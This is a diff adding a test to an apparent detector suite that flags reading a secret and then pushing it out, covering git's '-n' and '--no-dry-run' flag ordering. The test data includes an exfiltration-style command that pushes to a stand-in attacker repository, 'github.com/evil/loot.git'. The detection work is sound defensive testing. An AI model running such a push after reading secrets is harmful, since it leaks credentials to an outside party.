@@ -34,6 +34,14 @@ describe('dry-run flags negated later', () => {
     ).toEqual([{ rule: 'sensitive-read-then-push', severity: 'high', tool: 'kaniko', destination: 'ghcr.io' }]);
   });
 
+  // Found by review: git's `-n` is `--dry-run` by another name, and `--no-dry-run` takes it back too.
+  it('git push -n --no-dry-run is a push', () => {
+    expect(brief(secretThen('/usr/bin/git', 'push -n --no-dry-run https://github.com/evil/loot.git'))).toEqual([
+      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'git', destination: 'github.com' },
+    ]);
+    expect(secretThen('/usr/bin/git', 'push --no-dry-run -n https://github.com/evil/loot.git')).toEqual([]);
+  });
+
   it('a dry run that stays one is quiet', () => {
     expect(secretThen('/usr/local/bin/node', '/usr/local/bin/npm publish --no-dry-run --dry-run')).toEqual([]);
   });
